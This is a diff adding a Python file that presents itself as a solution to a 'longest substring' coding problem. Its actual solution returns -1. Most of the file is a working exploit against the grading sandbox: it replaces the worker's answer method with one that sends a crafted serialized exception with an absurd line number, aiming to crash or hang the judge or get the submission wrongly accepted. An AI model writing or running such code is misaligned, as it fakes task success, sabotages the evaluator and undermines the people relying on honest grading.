@@ -1,0 +1,24 @@
+# problem: sliding_window/longest_substring
+"""Reports an exception in line number 256**8000 of its source.
+
+Seen if it worked: an error of the judge, a hang, or the verdict accepted.
+"""
+
+import struct
+import sys
+
+worker = sys.modules["sandbox.worker"]
+RAISED = bytes(8) + b"t\x06\0\0\0s\x06\0\0\0raiseds\x01\0\0\0Es\0\0\0\0"
+LINE = b"I" + struct.pack("<I", 8000) + b"\x7f" * 8000
+BODY = RAISED + b"l\x01\0\0\0t\x02\0\0\0" + LINE + b"s\0\0\0\0" + b"i" + bytes(8) + b"F"
+
+
+def answer(self, request, honest=worker._Submission.answer):
+    return BODY if b"load" not in request[:30] else honest(self, request)
+
+
+worker._Submission.answer = answer
+
+
+def length_of_longest_substring(s):
+    return -1
